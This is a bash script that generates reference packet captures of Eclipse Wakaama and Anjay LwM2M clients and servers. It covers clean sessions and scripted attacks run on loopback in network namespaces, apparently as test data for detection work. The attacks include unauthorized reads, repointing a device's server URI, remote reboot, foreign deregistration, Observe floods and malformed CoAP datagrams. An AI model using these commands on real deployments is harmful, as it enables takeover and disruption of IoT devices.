#!/usr/bin/env bash
# Makes the captures/reference/wakaama-clean-*.pcap and wakaama-attack-*.pcap files: Eclipse
# Wakaama's example LwM2M server and client talking over UDP, attacked with libcoap's
# coap-client. Nothing here is third-party code: the programs are built from their own public
# sources (see captures/reference/README.md, "Attacks on Wakaama") and named on the command line.
#
#   captures/make-reference.sh WAKAAMA_BUILD OUT_DIR [ANJAY_DEMO]
#
# WAKAAMA_BUILD holds build-server/lwm2mserver and build-client-udp/lwm2mclient; ANJAY_DEMO is
# AVSystem Anjay's demo client (output/bin/demo), for the anjay-* scenarios; coap-client-notls
# (Debian's libcoap3-bin), tcpdump and tshark must be on PATH. Building them, outside this tree:
#   Wakaama (github.com/eclipse-wakaama/wakaama): its CMake files want the tinydtls submodule even
#   for plain UDP, so either check it out or create empty placeholders for the files that
#   transport/tinydtls/tinydtls.cmake lists (they are never compiled for these targets); then
#     cmake -S examples/server -B build-server -DWAKAAMA_UNIT_TESTS=OFF
#     cmake --build build-server --target lwm2mserver
#     cmake -S examples/client/udp -B build-client-udp -DWAKAAMA_UNIT_TESTS=OFF
#     cmake --build build-client-udp --target lwm2mclient
#   Anjay (github.com/AVSystem/Anjay, with its deps/avs_commons submodule; avs_coap is in-tree):
#     cmake -S . -B build -DDTLS_BACKEND=openssl -DWITH_DEMO=ON -DWITH_TEST=OFF
#     cmake --build build --target demo
#   (with no DTLS backend the demo does not link: avs_crypto_clear_buffer is missing).
# Needs root: each scenario runs in a
# network namespace of its own (unshare -n), so the capture holds that scenario's packets and
# nothing else that happens to use the host's loopback, and 127.0.0.2 is a second host on it.
# Timing comes from real programs, so a new run gives new timestamps, ports and tokens: the
# README's tables describe the committed files, not a future run.
set -euo pipefail

if [[ $# -ne 2 && $# -ne 3 ]]; then
  echo "usage: $0 WAKAAMA_BUILD OUT_DIR [ANJAY_DEMO]" >&2
  exit 2
fi
WAKAAMA=$(cd "$1" && pwd)
OUT=$(mkdir -p "$2" && cd "$2" && pwd)
ANJAY_DEMO=${3:+$(realpath "$3")}
SERVER_BIN=$WAKAAMA/build-server/lwm2mserver
CLIENT_BIN=$WAKAAMA/build-client-udp/lwm2mclient
COAP_CLIENT=${COAP_CLIENT:-coap-client-notls}
for tool in "$SERVER_BIN" "$CLIENT_BIN"; do
  [[ -x $tool ]] || { echo "$0: $tool: not built" >&2; exit 2; }
done
for tool in "$COAP_CLIENT" tcpdump tshark unshare stdbuf python3; do
  command -v "$tool" >/dev/null || { echo "$0: $tool: not on PATH" >&2; exit 2; }
done

# The victim: Wakaama's client on 127.0.0.1:56830, registered with Wakaama's server on
# 127.0.0.1:5683. The stranger: coap-client on 127.0.0.2 (another host) or on 127.0.0.1 from
# another port (the server's host).
CLIENT_URI=coap://127.0.0.1:56830
SERVER_URI=coap://127.0.0.1:5683

# ---- one scenario, inside its own network namespace ------------------------------------------
run_scenario() { # NAME: re-runs this script in a fresh network namespace for one scenario
  REFCAPS_SCENARIO=$1 unshare -n "$0" "$WAKAAMA" "$OUT" ${ANJAY_DEMO:+"$ANJAY_DEMO"}
}

if [[ -n ${REFCAPS_SCENARIO:-} ]]; then
  ip link set lo up
  # getaddrinfo(AI_ADDRCONFIG), with which Anjay binds its local port, finds no IPv4 address in
  # a namespace that has only 127.0.0.1; a documentation address on lo gives it one. Nothing is
  # sent to or from it.
  ip addr add 192.0.2.1/32 dev lo
  work=$(mktemp -d)
  cd "$work"  # Anjay's demo keeps its firmware-update state in files in its working directory
  pids=()
  cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    wait 2>/dev/null || true
    rm -rf "$work"
  }
  trap cleanup EXIT

  start_capture() {
    tcpdump -i lo -U -w "$OUT/$REFCAPS_SCENARIO.pcap" udp 2>"$work/tcpdump.log" &
    pids+=($!)
    tcpdump_pid=$!
    # tcpdump says "listening on" once the socket is open; packets before that are lost.
    for _ in $(seq 50); do grep -qs listening "$work/tcpdump.log" && break; sleep 0.1; done
  }
  stop_capture() {
    sleep 0.5
    kill -INT "$tcpdump_pid"
    wait "$tcpdump_pid" || true
  }
  start_server() {
    mkfifo "$work/server.in"
    stdbuf -oL -eL "$SERVER_BIN" -4 <"$work/server.in" >"$work/server.out" 2>&1 &
    pids+=($!)
    exec 3>"$work/server.in"
    sleep 0.5
  }
  server() { echo "$*" >&3; sleep "${PAUSE:-0.5}"; }
  start_client() { # NAME [PORT] [LIFETIME]: a client that registers at once
    local fifo=$work/client-${2:-56830}.in
    mkfifo "$fifo"
    stdbuf -oL -eL "$CLIENT_BIN" -4 -h 127.0.0.1 -n "$1" -l "${2:-56830}" -t "${3:-300}" <"$fifo" >"$work/client-${2:-56830}.out" 2>&1 &
    pids+=($!)
    client_pid=$!
    exec 4>"$fifo"
    sleep 1
  }
  client() { echo "$*" >&4; sleep "${PAUSE:-0.5}"; }
  start_anjay() { # NAME: Anjay's demo client on 127.0.0.1:56840, registering at once
    mkfifo "$work/anjay.in"
    "$ANJAY_DEMO" -e "$1" -u "$SERVER_URI" -l 300 --port 56840 <"$work/anjay.in" >"$work/anjay.out" 2>&1 &
    pids+=($!)
    exec 4>"$work/anjay.in"
    sleep 1
  }
  # Closing its standard input makes Anjay's demo deregister and exit.
  quit_anjay() { exec 4>&-; sleep 1; }
  # The registration location the server gave the client: Wakaama numbers clients from 0 in
  # the order they register, and prints "New client #N registered."
  location() {
    local n
    n=$(grep -o 'New client #[0-9]*' "$work/server.out" | tail -n 1) || { echo "$0: no client registered" >&2; exit 1; }
    echo "/rd/${n#*#}"
  }
  stranger() { # ADDRESS coap-client-arguments...: one request from a host that is not the server
    local addr=$1
    shift
    "$COAP_CLIENT" -a "$addr" -B 1 "$@" >/dev/null 2>&1 || true
    sleep 0.3
  }
  # A datagram of any bytes from ADDRESS to 127.0.0.1:DEST_PORT: coap-client only sends
  # well-formed CoAP, and bash's /dev/udp cannot choose the source address.
  raw() { # ADDRESS DEST_PORT HEX
    python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((sys.argv[1],0)); s.sendto(bytes.fromhex(sys.argv[3]),("127.0.0.1",int(sys.argv[2])))' "$1" "$2" "$3"
    sleep 0.3
  }
  quit_client() { client quit; sleep 1; }

  start_capture
  case $REFCAPS_SCENARIO in
  wakaama-clean-session)
    # A whole device-management session with nothing wrong in it.
    start_server
    start_client wk-clean
    server read 0 /3/0
    server read 0 /3/0/0
    server disc 0 /3
    server time 0 /3/0/9 1 60
    server observe 0 /3/0/9
    client change /3/0/9 55
    sleep 1.2
    client change /3/0/9 42
    sleep 1.2
    server write 0 /3/0/14 +01:00
    server write 0 /1/0/1 300
    server write 0 /31024/10/1 77
    server exec 0 /31024/10/2
    client update 0
    server cancel 0 /3/0/9
    server read 0 /31024/10
    quit_client
    ;;
  wakaama-attack-stranger-read)
    # Reconnaissance from another host: reads and a discover of the client's objects.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m get $CLIENT_URI/3/0
    stranger 127.0.0.2 -m get $CLIENT_URI/1/0
    stranger 127.0.0.2 -m get -A 40 $CLIENT_URI/3
    quit_client
    ;;
  wakaama-attack-samehost-stranger)
    # The same requests from the server's own host, from another port than the server's.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.1 -m get $CLIENT_URI/3/0
    stranger 127.0.0.1 -m put -t 0 -e 5 $CLIENT_URI/1/0/1
    quit_client
    ;;
  wakaama-attack-security-write)
    # Repointing the client at another server: a write of the Security object's Server URI.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m put -t 0 -e coap://198.51.100.7:5683 $CLIENT_URI/0/0/0
    quit_client
    ;;
  wakaama-attack-server-write)
    # Reconfiguring the client's server account: lifetime 1 s in the Server object.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m put -t 0 -e 1 $CLIENT_URI/1/0/1
    quit_client
    ;;
  wakaama-attack-execute-reboot)
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m post $CLIENT_URI/3/0/4
    quit_client
    ;;
  wakaama-attack-foreign-deregister)
    # Another host deletes the client's registration; Wakaama's server obeys (2.02), and the
    # client's next Update finds no registration (4.04).
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m delete "$SERVER_URI$(location)"
    client update 0
    sleep 1
    kill "$client_pid" 2>/dev/null || true  # it may have given up already
    ;;
  wakaama-attack-foreign-update)
    # Another host updates the client's registration (a lifetime of 60 s; nothing else changes,
    # so no other rule has a reason to fire).
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m post "$SERVER_URI$(location)?lt=60"
    quit_client
    ;;
  wakaama-attack-endpoint-conflict)
    # A second host registers under the name of the registered client.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m post -t 40 -e '</1/0>,</3/0>' "$SERVER_URI/rd?ep=wk-victim&b=U&lt=300&lwm2m=1.1"
    quit_client
    ;;
  wakaama-attack-endpoint-conflict-samehost)
    # A second Wakaama client on the same host, another port, registers under the same name.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    exec 5>&4
    start_client wk-victim 56831
    client quit
    exec 4>&5
    quit_client
    ;;
  wakaama-attack-observe-flood)
    # 25 Observe requests for the battery level from one stranger within about a second.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    flood=()
    for _ in $(seq 25); do
      "$COAP_CLIENT" -a 127.0.0.2 -N -B 1 -s 1 -m get $CLIENT_URI/3/0/9 >/dev/null 2>&1 &
      flood+=($!)
      sleep 0.04
    done
    for pid in "${flood[@]}"; do wait "$pid" || true; done
    quit_client
    ;;
  wakaama-attack-malformed-coap)
    # Datagrams that break RFC 7252 framing, from a stranger to the server and to the client:
    # token length 9; an option delta nibble of 15; an option running past the end.
    start_server
    start_client wk-victim
    server read 0 /3/0/0
    raw 127.0.0.2 5683 '49011234010203040506070809'
    raw 127.0.0.2 56830 '4001abcdf1'
    raw 127.0.0.2 5683 '4002abceb37264'
    quit_client
    ;;
  anjay-clean-session)
    # Anjay's demo client managed by Wakaama's server: nothing wrong in it.
    start_server
    start_anjay anjay-clean
    server read 0 /3/0
    server read 0 /1/1
    server disc 0 /3/0
    server time 0 /3/0/13 1 2
    server observe 0 /3/0/13
    sleep 3.2
    server cancel 0 /3/0/13
    server write 0 /3/0/14 +01:00
    server exec 0 /1/1/8
    sleep 0.5
    quit_anjay
    ;;
  anjay-attack-security-write)
    # A stranger repoints Anjay's server account: a write of the Security object's Server URI.
    start_server
    start_anjay anjay-victim
    server read 0 /3/0/0
    stranger 127.0.0.2 -m put -t 0 -e coap://198.51.100.7:5683 coap://127.0.0.1:56840/0/1/0
    stranger 127.0.0.2 -m post coap://127.0.0.1:56840/3/0/4
    quit_anjay
    ;;
  *)
    echo "$0: unknown scenario $REFCAPS_SCENARIO" >&2
    exit 2
    ;;
  esac
  stop_capture
  exit 0
fi

# ---- every scenario, then tshark's fields for each --------------------------------------------
SCENARIOS=(
  wakaama-clean-session
  wakaama-attack-stranger-read
  wakaama-attack-samehost-stranger
  wakaama-attack-security-write
  wakaama-attack-server-write
  wakaama-attack-execute-reboot
  wakaama-attack-foreign-deregister
  wakaama-attack-foreign-update
  wakaama-attack-endpoint-conflict
  wakaama-attack-endpoint-conflict-samehost
  wakaama-attack-observe-flood
  wakaama-attack-malformed-coap
)
[[ -n $ANJAY_DEMO ]] && SCENARIOS+=(anjay-clean-session anjay-attack-security-write)
FIELDS=(frame.number frame.time_epoch ip.src ipv6.src udp.srcport ip.dst ipv6.dst udp.dstport coap.type coap.code coap.mid
  coap.token coap.opt.uri_path_recon coap.opt.uri_query coap.opt.ctype coap.opt.accept coap.opt.observe
  coap.opt.block_number coap.opt.block_mflag coap.opt.block_size coap.opt.location_path
  coap.payload_length coap.response_to coap.retransmitted)
for name in "${SCENARIOS[@]}"; do
  [[ -n ${ONLY:-} && $ONLY != "$name" ]] && continue
  echo "== $name" >&2
  run_scenario "$name"
  args=()
  for f in "${FIELDS[@]}"; do args+=(-e "$f"); done
  tshark -r "$OUT/$name.pcap" -d udp.port==56830,coap -d udp.port==56831,coap \
    -d udp.port==56840,coap -Y coap -T fields -E header=y -E separator=/t \
    -E occurrence=a -E aggregator=, "${args[@]}" >"$OUT/$name.tshark.tsv"
done
